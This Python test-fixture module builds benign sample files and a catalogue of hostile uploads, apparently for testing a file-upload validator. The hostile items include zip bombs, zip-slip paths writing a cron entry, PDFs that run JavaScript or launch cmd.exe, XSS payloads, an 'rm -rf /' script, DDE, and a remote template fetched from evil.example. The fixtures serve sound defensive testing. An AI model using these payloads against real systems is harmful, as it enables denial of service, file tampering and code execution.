"""Files to send: one of each kind that is taken, and those that somebody with bad intent would send."""

from __future__ import annotations

import io
import struct
import wave
import zipfile
import zlib
from collections.abc import Iterable
from functools import cache

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MEGABYTE = 1024 * 1024
SCRIPT = b"<html><script>alert(document.domain)</script></html>"


# --- One of each kind.


def picture(form: str, width: int = 64, height: int = 48) -> bytes:
    from PIL import Image

    made = io.BytesIO()
    Image.new("RGB", (width, height), (20, 90, 60)).save(made, form)
    return made.getvalue()


def pdf(*objects: bytes, root: bytes = b"", tail: bytes = b"") -> bytes:
    """A PDF of one page, with more objects from the fourth on and more words in its root."""
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R " + root + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        *objects,
    ]
    made, at = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, start=1):
        at.append(len(made))
        made += b"%d 0 obj\n" % number + part + b"\nendobj\n"
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1) + b"".join(b"%010d 00000 n \n" % one for one in at)
    made += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, start)
    return made + tail


def package(parts: dict[str, bytes], *, comment: bytes = b"") -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        archive.comment = comment
    return made.getvalue()


WORD_TYPES = (
    b'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)
SHEET_TYPES = (
    b'<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'spreadsheetml.sheet.main+xml"/></Types>'
)


def word(**more: bytes) -> bytes:
    parts = {"[Content_Types].xml": WORD_TYPES, "word/document.xml": b"<w:document><w:t>He ran.</w:t></w:document>"}
    return package(parts | {name.replace("__", "/"): content for name, content in more.items()})


def sheet(more: dict[str, bytes] | None = None) -> bytes:
    return package({"[Content_Types].xml": SHEET_TYPES, "xl/workbook.xml": b"<workbook/>", **(more or {})})


def open_document(kind: str, more: dict[str, bytes] | None = None) -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
    return package({"mimetype": mimetype, "content.xml": b"<office:document-content/>", **(more or {})})


def box(name: bytes, content: bytes = b"") -> bytes:
    return struct.pack(">I", len(content) + 8) + name + content


def film(brand: bytes = b"isom", seconds: int = 75) -> bytes:
    header = box(b"mvhd", b"\x00" * 12 + struct.pack(">II", 1000, seconds * 1000) + b"\x00" * 80)
    return box(b"ftyp", brand + b"\x00\x00\x02\x00") + box(b"moov", header) + box(b"mdat", b"\x01" * 400)


def heic(width: int = 4032, height: int = 3024) -> bytes:
    size = box(b"ispe", b"\x00" * 4 + struct.pack(">II", width, height))
    return box(b"ftyp", b"heic\x00\x00\x00\x00") + box(b"meta", b"\x00" * 4 + box(b"iprp", box(b"ipco", size)))


def sound() -> bytes:
    made = io.BytesIO()
    with wave.open(made, "wb") as file:
        file.setnchannels(1)
        file.setsampwidth(2)
        file.setframerate(8000)
        file.writeframes(b"\x00\x00" * 8000 * 3)
    return made.getvalue()


@cache
def harmless() -> dict[str, tuple[bytes, dict[str, int]]]:
    """Name to content, and what the first look finds."""
    telephone = picture("JPEG") + picture("JPEG", 32, 24) + b"\x00" * 100
    return {
        "statement.pdf": (pdf(), {"pages": 1}),
        "shelf.jpg": (picture("JPEG"), {"width": 64, "height": 48}),
        "telephone.jpeg": (telephone, {"width": 64, "height": 48}),
        "shelf.png": (picture("PNG"), {"width": 64, "height": 48}),
        "telephone.heic": (heic(), {"width": 4032, "height": 3024}),
        "statement.docx": (word(), {}),
        "list.xlsx": (sheet(), {}),
        "statement.odt": (open_document("text"), {}),
        "list.ods": (open_document("spreadsheet"), {}),
        "yard.mp4": (film(), {"seconds": 75}),
        "yard.mov": (film(b"qt  "), {"seconds": 75}),
        "call.m4a": (film(b"M4A "), {"seconds": 75}),
        "call.mp3": (b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x00" * 100, {}),
        "call.wav": (sound(), {"seconds": 3}),
        "notes.txt": ("Took two bottles, £30 – and ran.\n".encode(), {}),
        "old notes.txt": ("Took two bottles, £30.\r\n".encode("cp1252"), {}),
        "till.csv": (b"time,amount\r\n10:00,=1+1\r\n", {}),
    }


# --- What somebody with bad intent would send.


def nested_archive(levels: int = 5, beside: int = 16) -> bytes:
    """As 42.zip is made: archives of archives, at whose bottom lie zeros."""
    inner = package({"0.dll": b"\x00" * (16 * MEGABYTE)})
    for level in range(levels):
        inner = package({f"{level}-{n}.zip": inner for n in range(beside)})
    return inner


def lying_about_its_size(packed: bytes, name: bytes) -> bytes:
    """A package whose directory says that one part is ten bytes long."""
    made, at = bytearray(packed), packed.rfind(b"PK\x01\x02")
    while at >= 0 and made[at + 46 : at + 46 + len(name)] != name:
        at = packed.rfind(b"PK\x01\x02", 0, at)
    made[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(made)


def deflated_again(times: int, megabytes: int) -> bytes:
    """A stream of so many zeros, packed over and over: a few hundred bytes that unpack to gigabytes."""
    packer, some = zlib.compressobj(9), bytearray()
    for _each in range(megabytes):
        some += packer.compress(b"\x00" * MEGABYTE)
    packed = bytes(some + packer.flush())
    for _each in range(times - 1):
        packed = zlib.compress(packed, 9)
    return packed


def nested_flate_pdf() -> bytes:
    """Its table of objects lies in a stream packed four times."""
    packed, filters = deflated_again(4, 600), b"[" + b"/FlateDecode " * 4 + b"]"
    made = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    start = len(made)
    made += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 2 1] /Root 1 0 R /Filter " + filters
    made += b" /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream\nendobj\n"
    return made + b"startxref\n%d\n%%%%EOF\n" % start


def png_of(width: int, height: int, *, end: bytes = b"") -> bytes:
    """A PNG that says how large it is and holds next to nothing."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\x00" * 100)) + chunk(b"IEND", b"") + end


def jpeg_of(width: int, height: int) -> bytes:
    frame = struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8\xff\xc0" + frame + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x00" * 20 + b"\xff\xd9"


def deep_pdf() -> bytes:
    return pdf(b"[" * 5000 + b"]" * 5000)


def relation(to: bytes, kind: bytes) -> bytes:
    return b'<Relationships><Relationship Id="r1" Type="http://x/' + kind + b'" Target="' + to + (
        b'" TargetMode="External"/></Relationships>'
    )  # fmt: skip


@cache
def hostile() -> dict[str, tuple[str, bytes]]:
    """What it is, to its name and content."""
    return dict(_hostile())


def _hostile() -> Iterable[tuple[str, tuple[str, bytes]]]:
    archive = nested_archive()
    yield "an archive of archives", ("42.zip", archive)
    yield "the same called a document", ("42.docx", archive)
    yield "a document with a part of zeros", ("bomb.docx", word(word__media__a=b"\x00" * (64 * MEGABYTE)))
    yield "a part that lies about its size", (
        "lies.docx", lying_about_its_size(word(word__media__b=b"\x00" * (8 * MEGABYTE)), b"word/media/b"),
    )  # fmt: skip
    yield "parts beyond counting", ("many.xlsx", sheet({f"xl/m/{n}": b"" for n in range(6000)}))
    yield "a name that climbs out (zip-slip)", ("slip.docx", word(**{"../../../etc/cron.d/x": b"* * * * * root x"}))
    yield "an absolute name", ("slip.xlsx", sheet({"/etc/passwd": b"x"}))
    yield "a name with backslashes", ("slip.odt", open_document("text", {"..\\..\\x": b"x"}))
    yield "a PDF packed four times over", ("flate.pdf", nested_flate_pdf())
    yield "a PDF of brackets without end", ("deep.pdf", deep_pdf())
    yield "a PDF that runs a script", ("js.pdf", pdf(root=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"))
    yield "a script under a disguised name", ("js2.pdf", pdf(b"<< /S /J#61vaScript /J#53 (x) >>"))
    yield "a PDF that starts a program", ("launch.pdf", pdf(b"<< /Type /Action /S /Launch /F (cmd.exe) >>"))
    yield "a PDF that carries a file", ("carries.pdf", pdf(b"<< /Type /Filespec /EF << /F 3 0 R >> >>"))
    yield "a PDF that is an archive too", ("both.pdf", pdf(tail=package({"a.js": b"x"})))
    yield "a PDF that is a page too", ("page.pdf", pdf(tail=SCRIPT * 40))
    yield "a picture that is an archive too", ("both.png", picture("PNG") + package({"a.js": b"x"}))
    yield "a picture that is an archive at heart", ("both.jpg", picture("JPEG") + package({"a.js": b"x"}))
    yield "a picture with a page after its end", ("page.png", picture("PNG") + SCRIPT)
    yield "a photograph with a page after its end", ("page.jpg", picture("JPEG") + SCRIPT)
    yield "a picture 20,000 points wide", ("wide.png", png_of(20_000, 20_000))
    yield "a photograph 20,000 points wide", ("wide.jpg", jpeg_of(20_000, 300))
    yield "a picture of more points than memory", ("wide.heic", heic(16_000, 16_000))
    yield "a picture without a size", ("none.png", png_of(0, 10))
    yield "a picture cut short", ("cut.png", picture("PNG")[:-20])
    yield "the scanners' test signature", ("eicar.txt", EICAR)
    yield "the signature as a table", ("eicar.csv", b"a,b\r\n" + EICAR)
    yield "the signature inside a document", ("eicar.docx", word(word__media__c=EICAR))
    yield "the signature as a program", ("eicar.com", EICAR)
    yield "the signature in a PDF", ("eicar.pdf", pdf(b"(" + EICAR + b")"))
    yield "a drawing with a script", ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    yield "a drawing called a picture", ("drawing.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    yield "a page", ("page.html", SCRIPT)
    yield "a page called text", ("page.txt", b"\xef\xbb\xbf  <!DOCTYPE html>" + SCRIPT)
    yield "a page called a table", ("page.csv", SCRIPT)
    yield "a program of Windows", ("tool.exe", b"MZ" + b"\x00" * 200)
    yield "a program called a PDF", ("invoice.pdf", b"MZ" + b"\x00" * 200)
    yield "a program called text", ("invoice.txt", b"\x7fELF" + b"\x00" * 200)
    yield "a program behind a second ending", ("invoice.pdf.exe", pdf())
    yield "a script of a shell", ("run.txt", b"#!/bin/sh\nrm -rf /\n")
    yield "macros by their ending", ("book.xlsm", sheet())
    yield "macros without their ending", ("macro.docx", word(word__vbaProject=b"x"))
    yield "macros of an open document", ("macro.odt", open_document("text", {"Basic/Standard/Module1.xml": b"x"}))
    yield "an old Word file", ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600)
    template = relation(b"http://evil.example/x.dotm", b"attachedTemplate")
    yield "a template fetched from elsewhere", (
        "fetch.docx", word(**{"word/_rels/settings.xml.rels": template}),
    )  # fmt: skip
    yield (
        "a link to a program by DDE",
        ("dde.docx", word(**{"word/a.xml": b"<w:t> DDEAUTO c:\\x </w:t>"})),
    )
    yield "a program inside a document", ("ole.docx", word(word__embeddings__oleObject1=b"MZ" + b"\x00" * 90))
    yield "a program under another name inside", ("img.docx", word(word__media__image1=b"MZ" + b"\x00" * 90))
    yield "a workbook with macros inside a document", (
        "inside.docx", word(**{"word/embeddings/a.xlsx": sheet({"xl/vbaProject.bin": b"x"})}),
    )  # fmt: skip
    yield "a workbook called a document", ("sheet.docx", sheet())
    yield "an archive with a remark", ("remark.docx", package({"[Content_Types].xml": WORD_TYPES}, comment=SCRIPT))
    yield "a film with something behind it", ("tail.mp4", film() + SCRIPT)
    yield "a film that is an archive too", ("both.mp4", film() + box(b"free", package({"a.js": b"x"})))
    yield "a film of boxes without end", ("boxes.mp4", box(b"ftyp", b"isom") + box(b"free") * 200_000)
    yield "sound with something behind it", ("tail.wav", sound() + SCRIPT)
    yield "a tag without sound", ("tag.mp3", b"ID3\x04\x00\x00\x00\x00\x00\x05hello" + SCRIPT)
    yield "an empty file", ("empty.pdf", b"")
    yield "a name without an ending", ("statement", pdf())
    yield "a shortcut", ("go.lnk", b"L\x00\x00\x00" + b"\x00" * 100)
    yield "a name of a device", ("CON", b"x")
